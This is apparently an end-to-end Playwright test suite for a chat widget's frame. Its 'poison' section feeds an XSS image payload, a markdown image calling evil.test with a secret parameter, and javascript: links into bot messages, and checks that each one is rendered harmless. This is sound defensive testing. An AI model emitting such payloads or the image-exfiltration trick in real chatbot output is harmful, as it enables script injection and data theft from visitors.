"""What a visitor sees in the widget's frame, and what poison in a message cannot do there."""

from __future__ import annotations

import asyncio
import re
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from playwright.async_api import Locator, expect

from apps.sessions.markdown import render_for_visitors
from apps.tenants.hours import DAYS
from kernel.tenancy import in_scope
from tests.e2e.axe import violations
from tests.e2e.conftest import OpenPage
from tests.e2e.peer import Peer
from tests.e2e.widget import Widget, expect_that, talking
from tests.factories.tenants import make_deployment


@pytest.fixture
def demo(web: str, deployment: Any) -> str:
    return f"{web}/demo/{deployment.tenant.slug}/"


# --- who is there -----------------------------------------------------------------------------------------------------


async def test_header_while_the_team_is_there_says_that_answers_come_at_once(
    open_page: OpenPage, demo: str, peer: Peer
) -> None:
    _, widget = await talking(open_page, demo, peer)
    await expect(widget.subtitle).to_have_text("Typically replies instantly")


async def test_header_while_the_team_is_closed_says_who_answers_now_and_when_the_team_is_back(
    open_page: OpenPage, demo: str, peer: Peer
) -> None:
    opens = datetime.now(UTC) + timedelta(days=2)
    peer.ready = {"team": {"open": False, "opens_at": opens.isoformat()}}
    _, widget = await talking(open_page, demo, peer)
    said = rf"^The chatbot replies instantly\. Our team is back {opens:%A}.*:{opens:%M}"
    await expect(widget.subtitle).to_have_text(re.compile(said))


async def test_header_of_a_closed_team_in_german_names_the_day_in_german(
    open_page: OpenPage, demo: str, peer: Peer
) -> None:
    opens = datetime.now(UTC) + timedelta(days=2)
    peer.ready = {"team": {"open": False, "opens_at": opens.isoformat()}}
    page, widget = await talking(open_page, demo, peer)
    await page.evaluate("Silas.setLocale('de')")
    german = ["Montag", "Dienstag", "Mittwoch", "Donnerstag", "Freitag", "Samstag", "Sonntag"]
    await expect(widget.subtitle).to_contain_text(german[opens.weekday()])


async def test_header_with_nobody_there_names_no_time(open_page: OpenPage, demo: str, peer: Peer) -> None:
    peer.ready = {"team": {"open": False, "opens_at": None}}
    _, widget = await talking(open_page, demo, peer)
    await expect(widget.subtitle).to_have_text("The chatbot replies instantly. Our team is away right now.")


async def test_header_after_the_team_has_opened_does_not_call_it_closed(
    open_page: OpenPage, demo: str, peer: Peer
) -> None:
    peer.ready = {"team": {"open": False, "opens_at": "2026-01-05T09:00:00+00:00"}}
    _, widget = await talking(open_page, demo, peer)
    await expect(widget.subtitle).to_have_text("Typically replies instantly")


async def test_header_while_a_person_answers_promises_nothing_for_the_chatbot(
    open_page: OpenPage, demo: str, peer: Peer
) -> None:
    _, widget = await talking(open_page, demo, peer)
    peer.say("owner", owner="human", name="Ana", epoch=1)
    await expect(widget.owner).to_contain_text("Ana is replying to you now")
    await expect(widget.subtitle).to_have_text("")


async def test_header_before_there_is_a_conversation_knows_the_opening_hours(
    open_page: OpenPage, demo: str, deployment: Any, tenant: Any
) -> None:
    noon = datetime.now(UTC).hour == 12
    hours = dict.fromkeys(DAYS, "15:00-15:01" if noon else "12:00-12:01")
    await in_scope(tenant, lambda: type(deployment).objects.update(opening_hours=hours, timezone="UTC"))
    page = await open_page(demo)
    widget = Widget(page)
    await expect(widget.subtitle).to_contain_text("Our team is back")


# --- poison -----------------------------------------------------------------------------------------------------------


def _growing(text: str) -> dict[str, str]:
    """As the widget renders what has no HTML: a growing answer."""
    return {"text": text}


def _recorded(text: str) -> dict[str, str]:
    """As the server renders a recorded message."""
    return {"text": text, "html": render_for_visitors(text)}


RENDERED = pytest.mark.parametrize("rendered", [_growing, _recorded])
Rendered = Callable[[str], dict[str, str]]


@RENDERED
async def test_bot_text_with_html_is_shown_as_text(
    open_page: OpenPage, demo: str, peer: Peer, rendered: Rendered
) -> None:
    _, widget = await talking(open_page, demo, peer)
    peer.say(**rendered("<img src=x onerror=alert(1)> <b>x</b>"))
    await expect(widget.bot).to_have_text("<img src=x onerror=alert(1)> <b>x</b>")


@RENDERED
async def test_bot_image_loads_nothing(open_page: OpenPage, demo: str, peer: Peer, rendered: Rendered) -> None:
    page, widget = await talking(open_page, demo, peer)
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    peer.say(**rendered("Look ![chart](https://evil.test/a.png?secret=1) here"))
    await expect(widget.bot).to_have_text("Look chart here")
    assert not [url for url in asked if "evil.test" in url]


@RENDERED
@pytest.mark.parametrize("address", ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,x", "//evil.test"])
async def test_bot_link_that_is_no_web_address_is_plain_text(
    open_page: OpenPage, demo: str, peer: Peer, address: str, rendered: Rendered
) -> None:
    _, widget = await talking(open_page, demo, peer)
    peer.say(**rendered(f"Press [here]({address}) now"))
    await expect(widget.bot).to_have_text("Press here now")
    await expect(widget.bot.locator("a")).to_have_count(0)


@RENDERED
async def test_bot_link_opens_a_page_that_learns_nothing_of_this_one(
    open_page: OpenPage, demo: str, peer: Peer, rendered: Rendered
) -> None:
    _, widget = await talking(open_page, demo, peer)
    peer.say(**rendered("See [our terms](https://a.test/x)"))
    link = widget.bot.get_by_role("link", name="our terms")
    await expect(link).to_have_attribute("href", "https://a.test/x")
    await expect(link).to_have_attribute("target", "_blank")
    await expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")


@RENDERED
async def test_citation_in_the_text_is_a_button_and_one_that_is_not_there_stays_text(
    open_page: OpenPage, demo: str, peer: Peer, rendered: Rendered
) -> None:
    _, widget = await talking(open_page, demo, peer)
    source = {"title": "Terms", "document_id": "d", "start": 0, "end": 1, "quote": "q"}
    peer.say(**rendered("- So it is [1]\n- not [7]"), citations=[source])
    await expect(widget.bot.get_by_role("button", name="Source: Terms")).to_have_count(1)
    await expect(widget.bot.locator("li").nth(1)).to_have_text("not [7]")


async def test_citation_with_a_script_address_offers_no_original(open_page: OpenPage, demo: str, peer: Peer) -> None:
    page, widget = await talking(open_page, demo, peer)
    found = {"title": "T", "url": "javascript:alert(1)", "before": "a ", "quote": "b", "after": " c"}
    await page.route("**/passage/**", lambda route: route.fulfill(json=found))
    peer.say(text="So.", citations=[{"title": "Terms", "document_id": "d", "start": 2, "end": 3, "quote": "b"}])
    await widget.log.get_by_text("Sources (1)").click()
    await widget.button("Source: Terms").click()
    await expect(widget.frame.locator("dialog mark")).to_have_text("b")
    await expect(widget.frame.get_by_role("link", name="Open the original")).to_be_hidden()


async def test_message_from_another_window_is_not_obeyed(open_page: OpenPage, demo: str, peer: Peer) -> None:
    page, widget = await talking(open_page, demo, peer)
    await page.evaluate("postMessage({silas: 'close'}, '*')")
    forged = "{silas: 'theme', theme: {mode: 'dark'}}"
    await widget.frame.locator("body").evaluate(f"() => postMessage({forged}, '*')")
    await widget.say("Still here")
    await expect(widget.mine).to_have_text("Still here")
    await expect(widget.frame.locator("html")).to_have_attribute("data-mode", "light")


async def test_frames_that_are_no_frames_change_nothing(open_page: OpenPage, demo: str, peer: Peer) -> None:
    _, widget = await talking(open_page, demo, peer)
    for odd in ({}, {"type": "unheard-of"}, {"type": "__proto__"}, {"type": None}, [1], "text", None):
        peer.send(odd)  # type: ignore[arg-type]
    peer.say(text="Fine")
    await expect(widget.bot).to_have_text("Fine")


# --- what the visitor sees --------------------------------------------------------------------------------------------


async def test_streamed_pieces_are_replaced_by_the_final_message(open_page: OpenPage, demo: str, peer: Peer) -> None:
    _, widget = await talking(open_page, demo, peer)
    for text in ("It is ", "covered"):
        peer.send({"type": "delta", "turn": 1, "text": text})
    await expect(widget.live).to_have_text("It is covered")
    peer.say(text="It is covered, up to £50,000.")
    await expect(widget.live).to_have_count(0)
    await expect(widget.bot).to_have_text("It is covered, up to £50,000.")


async def test_visitors_words_stand_before_they_are_acknowledged(open_page: OpenPage, demo: str, peer: Peer) -> None:
    _, widget = await talking(open_page, demo, peer)
    peer.acknowledges = False
    await widget.say("Hello")
    await expect(widget.mine).to_have_text("Hello")


async def test_work_card_changes_in_place_until_done(open_page: OpenPage, demo: str, peer: Peer) -> None:
    _, widget = await talking(open_page, demo, peer)
    peer.say("status", work_item_id="w", status="pending", title="Change your address", text="")
    await expect(widget.work).to_contain_text("Waiting for approval")
    peer.say("status", work_item_id="w", status="running", text="")
    await expect(widget.work).to_contain_text("In progress")
    peer.say("status", work_item_id="w", status="done", text="Your address is changed.")
    await expect(widget.work).to_have_text("Change your addressDoneYour address is changed.")


async def test_work_card_that_a_person_declined_is_no_failure(open_page: OpenPage, demo: str, peer: Peer) -> None:
    _, widget = await talking(open_page, demo, peer)
    peer.say("status", work_item_id="w", status="pending", title="Refund", text="")
    peer.say("status", work_item_id="w", status="blocked", reason="approval_denied", text="Decided against it.")
    await expect(widget.work).to_have_text("RefundDeclinedDecided against it.")


async def test_work_card_says_what_changes_how_long_it_takes_and_keeps_it_with_the_outcome(
    open_page: OpenPage, demo: str, peer: Peer
) -> None:
    _, widget = await talking(open_page, demo, peer)
    changes = [{"label": "address", "before": "Old Street 1", "after": "<b>New Street 5</b>"}]
    text = "Waiting for approval by our team: Change your address.\naddress: <b>New Street 5</b>"
    frame = {"work_item_id": "w", "title": "Change your address"}
    peer.say("status", status="pending", text=text, changes=changes, usual_seconds=250, **frame)
    await expect(widget.work.locator(".changes")).to_have_text("addressbefore: Old Street 1 after: <b>New Street 5</b>")
    await expect(widget.work.locator("del")).to_have_text("Old Street 1")
    await expect(widget.work).to_contain_text("Waiting for our team to confirm")
    await expect(widget.work).to_contain_text("This usually takes about 5 minutes.")
    peer.say("status", status="done", text="Done: Change your address.", next_steps=["Tell your bank."], **frame)
    await expect(widget.work.locator("ins")).to_have_text("<b>New Street 5</b>")
    await expect(widget.work).to_contain_text("Tell your bank.")
    await expect(widget.work).not_to_contain_text("usually takes")


async def test_work_card_after_an_old_status_keeps_the_newer_one(open_page: OpenPage, demo: str, peer: Peer) -> None:
    _, widget = await talking(open_page, demo, peer)
    old = peer.note("status", work_item_id="w", status="running", title="Refund", text="")
    peer.say("status", work_item_id="w", status="done", title="Refund", text="")
    await expect(widget.work).to_contain_text("Done")
    peer.send(old)
    peer.say(text="Anything else?")
    await expect(widget.bot).to_have_count(1)
    await expect(widget.work).to_contain_text("Done")


async def test_level_shows_how_long_it_lasts_and_goes_when_it_ends(open_page: OpenPage, demo: str, peer: Peer) -> None:
    _, widget = await talking(open_page, demo, peer)
    peer.say("access", level="verified", expires_at=(datetime.now(UTC) + timedelta(seconds=2)).isoformat())
    await expect(widget.level).to_contain_text("verified · ")
    await expect(widget.level).to_be_hidden()
    await expect(widget.log).to_contain_text("you've been signed out")


async def test_level_in_ready_shows_at_once(open_page: OpenPage, demo: str, peer: Peer) -> None:
    until = (datetime.now(UTC) + timedelta(minutes=11)).isoformat()
    peer.ready = {"access_level": "verified", "expires_at": until}
    _, widget = await talking(open_page, demo, peer)
    await expect(widget.level).to_have_text("verified · 11 min")


async def test_person_who_takes_over_is_named(open_page: OpenPage, demo: str, peer: Peer) -> None:
    _, widget = await talking(open_page, demo, peer)
    peer.say("owner", owner="human", name="Ana Ruiz")
    await expect(widget.owner).to_have_text("Ana Ruiz is replying to you now")
    peer.say("owner", owner="bot")
    await expect(widget.owner).to_be_hidden()


async def test_piece_of_a_bot_answer_after_the_takeover_is_not_shown(
    open_page: OpenPage, demo: str, peer: Peer
) -> None:
    _, widget = await talking(open_page, demo, peer)
    peer.send({"type": "delta", "turn": 1, "text": "Half an ans"})
    await expect(widget.live).to_have_count(1)
    peer.say("owner", owner="human", name="Ana")
    peer.send({"type": "delta", "turn": 1, "text": "wer"})
    peer.say(sender="system", text="Noted.")
    await expect(widget.log).to_contain_text("Noted.")
    await expect(widget.live).to_have_count(0)


async def test_suggestion_is_sent_by_a_press(open_page: OpenPage, demo: str, peer: Peer) -> None:
    _, widget = await talking(open_page, demo, peer)
    peer.say(text="What next?", suggestions=["Claim status"])
    await widget.button("Claim status").click()
    assert (await peer.hears(1))[0]["text"] == "Claim status"
    await expect(widget.button("Claim status")).to_have_count(0)


async def test_citation_in_the_text_opens_its_passage(open_page: OpenPage, demo: str, peer: Peer) -> None:
    page, widget = await talking(open_page, demo, peer)
    found = {"title": "Home policy", "url": "", "before": "Before. ", "quote": "Covered.", "after": " After."}
    await page.route("**/passage/doc-1/?start=8&end=16", lambda route: route.fulfill(json=found))
    peer.say(text="Yes [1].", citations=[{"title": "4.2", "document_id": "doc-1", "start": 8, "end": 16, "quote": "x"}])
    await widget.button("Source: 4.2").click()
    await expect(widget.frame.get_by_role("dialog")).to_contain_text("Before. Covered. After.")


async def test_sources_that_the_text_does_not_name_are_folded_under_it(
    open_page: OpenPage, demo: str, peer: Peer
) -> None:
    _, widget = await talking(open_page, demo, peer)
    place = {"document_id": "d", "start": 0, "end": 1, "quote": "x"}
    peer.say(text="Yes [2].", citations=[{"title": title, **place} for title in ("Terms", "Prices", "Opening hours")])
    await expect(widget.log.locator(".cite")).to_have_count(3)
    await expect(widget.button("Source: Prices")).to_be_visible()
    await expect(widget.log.get_by_text("Terms")).to_be_hidden()
    await widget.log.get_by_text("Sources (2)").press("Enter")
    await expect(widget.button("Source: Terms")).to_be_visible()
    await expect(widget.button("Source: Opening hours")).to_be_visible()


async def test_citation_of_a_section_is_short(open_page: OpenPage, demo: str, peer: Peer) -> None:
    _, widget = await talking(open_page, demo, peer)
    place = {"document_id": "d", "start": 0, "end": 1, "quote": "x"}
    peer.say(text="Yes.", citations=[{"title": "Home policy \u203a 4. Water \u203a 4.2 Burst pipes", **place}])
    await expect(widget.log.locator(".cite")).to_have_text("Home policy, 4.2 Burst pipes")


async def test_passage_that_may_not_be_seen_says_so(open_page: OpenPage, demo: str, peer: Peer) -> None:
    page, widget = await talking(open_page, demo, peer)
    gone = {"error": {"code": "not_found", "message": "Not found.", "extra": {}}}
    await page.route("**/passage/**", lambda route: route.fulfill(status=404, json=gone))
    peer.say(text="Yes.", citations=[{"title": "4.2", "document_id": "d", "start": 0, "end": 1, "quote": "x"}])
    await widget.log.get_by_text("Sources (1)").click()
    await widget.button("Source: 4.2").click()
    await expect(widget.frame.get_by_role("dialog")).to_contain_text("no longer available")
    open_page.errors.clear()


async def test_typing_mark_stands_as_soon_as_a_message_is_stored(open_page: OpenPage, demo: str, peer: Peer) -> None:
    """With the acknowledgement, before any word of an answer."""
    _, widget = await talking(open_page, demo, peer)
    await widget.say("Is anybody there?")
    await expect(widget.log.locator(".typing")).to_be_visible()
    await expect(widget.bot).to_have_count(0)


async def test_person_typing_shows_for_a_while(open_page: OpenPage, demo: str, peer: Peer) -> None:
    _, widget = await talking(open_page, demo, peer)
    peer.send({"type": "typing", "sender": "human"})
    await expect(widget.log.locator(".typing")).to_be_visible()
    await expect(widget.log.locator(".typing")).to_have_count(0, timeout=8000)


async def test_person_who_types_and_has_read_is_named(open_page: OpenPage, demo: str, peer: Peer) -> None:
    _, widget = await talking(open_page, demo, peer)
    peer.say("owner", owner="human", epoch=1, name="Grace")
    await widget.say("First")
    await widget.say("Second")
    peer.send({"type": "typing", "sender": "human"})
    await expect(widget.log.locator(".typing")).to_have_text("Grace is writing")
    peer.send({"type": "read", "up_to": 2})
    await expect(widget.log.locator(".row:has(.seen)")).to_contain_text("First")
    peer.send({"type": "read", "up_to": 3})
    await expect(widget.log.locator(".row:has(.seen)")).to_contain_text("Second")
    await expect(widget.log.locator(".seen")).to_have_count(1)


# --- hands, eyes, sizes -----------------------------------------------------------------------------------------------


async def test_keyboard_alone_opens_writes_and_closes(open_page: OpenPage, demo: str, peer: Peer) -> None:
    page = await open_page(demo, peer=peer)
    widget = Widget(page)
    await expect(widget.bubble).to_be_visible()  # nothing hidden takes the focus
    await widget.bubble.focus()
    await expect(widget.bubble).to_be_focused()
    await page.keyboard.press("Enter")
    await expect(widget.field).to_be_focused()
    await page.keyboard.type("line one")
    await page.keyboard.press("Shift+Enter")
    await page.keyboard.type("line two")
    await page.keyboard.press("Enter")
    assert (await peer.hears(1))[0]["text"] == "line one\nline two"
    await page.keyboard.press("Escape")
    await expect(widget.panel).to_be_hidden()
    await expect(widget.bubble).to_be_focused()


async def test_new_message_is_read_out(open_page: OpenPage, demo: str, peer: Peer) -> None:
    _, widget = await talking(open_page, demo, peer)
    peer.say(text="You are covered.")
    await expect(widget.frame.locator("[data-announce]")).to_have_text("Desk said: You are covered.")


@pytest.mark.parametrize("scheme", ["light", "dark"])
async def test_narrow_screen_needs_no_sideways_scrolling(
    open_page: OpenPage, demo: str, peer: Peer, scheme: Any
) -> None:
    _, widget = await talking(
        open_page, demo, peer, viewport={"width": 320, "height": 560}, has_touch=True, color_scheme=scheme
    )
    peer.say(text="x" * 300, citations=[{"title": "y" * 90, "document_id": "d", "start": 0, "end": 1, "quote": "q"}])
    peer.say("status", work_item_id="w", status="pending", title="z" * 80, text="A" * 200)
    await widget.say("v" * 200)
    await expect(widget.mine).to_have_count(1)
    wide = "() => Math.max(document.body.scrollWidth, document.querySelector('[data-log]').scrollWidth) - innerWidth"
    assert await widget.frame.locator("body").evaluate(wide) <= 0


@pytest.mark.parametrize("scheme", ["light", "dark"])
async def test_tenants_colour_is_made_readable(
    open_page: OpenPage, web: str, tenant: Any, peer: Peer, scheme: Any
) -> None:
    await asyncio.to_thread(make_deployment, tenant, theme={"accent": "#ffe14d"})
    _, widget = await talking(open_page, f"{web}/demo/{tenant.slug}/", peer, color_scheme=scheme)
    peer.say(text="So.", citations=[{"title": "Terms", "document_id": "d", "start": 0, "end": 1, "quote": "q"}])
    await widget.log.get_by_text("Sources (1)").click()
    text, back = await widget.button("Source: Terms").evaluate(
        "(node) => [getComputedStyle(node).color, getComputedStyle(node).backgroundColor]"
    )
    assert _contrast(text, back) >= 4.5


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("brand", ["#ffd400", "#777777", "#0b1e4f"])
async def test_brand_colour_is_kept_true_with_text_that_can_be_read(
    open_page: OpenPage, web: str, tenant: Any, peer: Peer, scheme: Any, brand: str
) -> None:
    await asyncio.to_thread(make_deployment, tenant, theme={"accent": brand})
    _, widget = await talking(open_page, f"{web}/demo/{tenant.slug}/", peer, color_scheme=scheme)
    await widget.say("Is yellow fine?")
    await expect(widget.mine).to_have_count(1)
    text, back = await widget.mine.evaluate(
        "(node) => [getComputedStyle(node).color, getComputedStyle(node).backgroundColor]"
    )
    assert back == f"rgb{tuple(bytes.fromhex(brand[1:]))}"
    assert _contrast(text, back) >= 4.5


async def test_reduced_motion_is_respected(open_page: OpenPage, demo: str, peer: Peer) -> None:
    _, widget = await talking(open_page, demo, peer, reduced_motion="reduce")
    peer.send({"type": "typing", "sender": "human"})
    dot = widget.log.locator(".typing i").first
    assert await dot.evaluate("(node) => getComputedStyle(node).animationName") == "none"


@pytest.mark.parametrize("scheme", ["light", "dark"])
async def test_conversation_is_for_everybody(
    open_page: OpenPage, web: str, deployment: Any, peer: Peer, scheme: Any
) -> None:
    """Axe looks at the frame alone, as narrow as a phone, with something of everything in it."""
    size = {"width": 320, "height": 640}
    address = f"{web}/widget/v1/{deployment.public_key}/"
    page = await open_page(address, peer=peer, viewport=size, color_scheme=scheme)
    await peer.hears(1, "auth")
    soon = (datetime.now(UTC) + timedelta(minutes=9)).isoformat()
    source = {"title": "4.2", "document_id": "d", "start": 0, "end": 1, "quote": "x"}
    options = [{"value": "send", "label": "Send it to me"}, {"value": "keep", "label": "Keep it here"}]
    question = {"request_id": "q", "sender": "bot", "question": "Where?", "options": options, "expires_at": soon}
    peer.say("access", level="verified", expires_at=soon)
    peer.say(sender="visitor", text="Is a **burst pipe** covered?", client_id="c")
    peer.say(text="Yes, see [our terms](https://a.test) [1].", citations=[source], suggestions=["Claim status"])
    peer.say("status", work_item_id="w", status="pending", title="Change your address", text="")
    peer.say("decision", **question, risk_level="high")
    peer.say("owner", owner="human", name="Ana Ruiz")
    peer.say(sender="human", text="Hello, this is Ana.")
    await expect(page.get_by_text("Hello, this is Ana.", exact=True)).to_be_visible()
    found = await violations(page)
    # the first heading is that of the page around the frame
    assert [(each["id"], each["nodes"]) for each in found if each["id"] != "page-has-heading-one"] == []
    assert await page.evaluate("document.documentElement.scrollWidth <= innerWidth")


def _contrast(one: str, other: str) -> float:
    """WCAG contrast of two computed colours."""
    low, high = sorted(
        _luminance([int(part) / 255 for part in re.findall(r"\d+", colour)[:3]]) for colour in (one, other)
    )
    return (high + 0.05) / (low + 0.05)


def _luminance(channels: list[float]) -> float:
    red, green, blue = (c / 12.92 if c <= 0.04045 else ((c + 0.055) / 1.055) ** 2.4 for c in channels)
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue


# --- what matters last is in sight ------------------------------------------------------------------------------------


async def _shown_whole(log: Locator, row: Locator) -> bool:
    """Whether a row's end is inside of the list's window."""
    found: bool = await log.evaluate(
        "(log, row) => row.getBoundingClientRect().bottom <= log.getBoundingClientRect().bottom + 1",
        await row.element_handle(),
    )
    return found


@pytest.mark.parametrize("turn", range(10))
async def test_work_card_after_a_long_answer_is_in_sight(open_page: OpenPage, demo: str, peer: Peer, turn: int) -> None:
    """At ten distances between the answer, the card and its outcome."""
    _, widget = await talking(open_page, demo, peer, viewport={"width": 375, "height": 600})
    await widget.say("Change my address")
    peer.say(text="A long answer. " * 40)
    await asyncio.sleep(turn * 0.006)
    card = {"title": "Change your address", "work_item_id": "1"}
    peer.say("status", status="waiting", text="Policy HM-20418\n" * 8, **card)
    await asyncio.sleep(turn * 0.004)
    peer.say("status", status="declined", text="We couldn't approve this.\n" * 8, **card)
    await expect(widget.work).to_contain_text("Declined")
    await expect_that(lambda: _shown_whole(widget.log, widget.work))
    await expect(widget.latest).to_be_hidden()


async def test_scroll_event_that_finds_a_longer_list_is_not_taken_for_the_readers_hand(
    open_page: OpenPage, demo: str, peer: Peer
) -> None:
    """The event of the list's own scrolling arrives after a row was added, and before the list followed it."""
    _, widget = await talking(open_page, demo, peer, viewport={"width": 375, "height": 600})
    for number in range(12):
        peer.say(text=f"Answer {number}. " * 12)
    await expect(widget.bot.last).to_be_in_viewport()
    await widget.log.evaluate(
        """(log) => {
          const rows = log.querySelector("[data-rows]");
          rows.append(rows.lastElementChild.cloneNode(true), rows.lastElementChild.cloneNode(true));
          log.dispatchEvent(new Event("scroll"));
        }"""
    )
    await expect_that(lambda: _shown_whole(widget.log, widget.bot.last))
    await expect(widget.latest).to_be_hidden()


async def test_outcome_of_a_card_far_above_is_in_sight_for_a_reader_at_the_end(
    open_page: OpenPage, demo: str, peer: Peer
) -> None:
    _, widget = await talking(open_page, demo, peer, viewport={"width": 375, "height": 600})
    peer.say("status", status="waiting", text="Queued", title="Change your address", work_item_id="1")
    for number in range(12):
        peer.say(text=f"Answer {number}. " * 12)
    await expect(widget.bot).to_have_count(12)
    peer.say("status", status="done", text="Changed.", title="Change your address", work_item_id="1")
    await expect(widget.work).to_have_count(1)
    await expect(widget.work).to_be_in_viewport()
    await expect(widget.work).to_contain_text("Done")


async def test_reader_who_scrolled_up_stays_there_and_is_told_how_many_are_new(
    open_page: OpenPage, demo: str, peer: Peer
) -> None:
    page, widget = await talking(open_page, demo, peer, viewport={"width": 375, "height": 600})
    for number in range(12):
        peer.say(text=f"Answer {number}. " * 12)
    await expect(widget.bot.last).to_be_in_viewport()
    await widget.log.hover()
    await page.mouse.wheel(0, -700)
    await expect(widget.bot.last).not_to_be_in_viewport()
    peer.say(text="One more.")
    peer.say("status", status="waiting", text="Queued", title="Change your address", work_item_id="1")
    await expect(widget.latest).to_have_text("2 new messages")
    await expect(widget.work).not_to_be_in_viewport()
    await widget.latest.click()
    await expect(widget.work).to_be_in_viewport()
    await expect(widget.latest).to_be_hidden()


async def test_end_stays_in_sight_when_a_phones_keyboard_opens(open_page: OpenPage, demo: str, peer: Peer) -> None:
    page, widget = await talking(open_page, demo, peer, viewport={"width": 375, "height": 812})
    for number in range(12):
        peer.say(text=f"Answer {number}. " * 12)
    await expect(widget.bot.last).to_be_in_viewport()
    await page.set_viewport_size({"width": 375, "height": 420})
    await expect_that(lambda: _shown_whole(widget.log, widget.bot.last))
    peer.say("status", status="waiting", text="Queued", title="Change your address", work_item_id="1")
    await expect_that(lambda: _shown_whole(widget.log, widget.work))
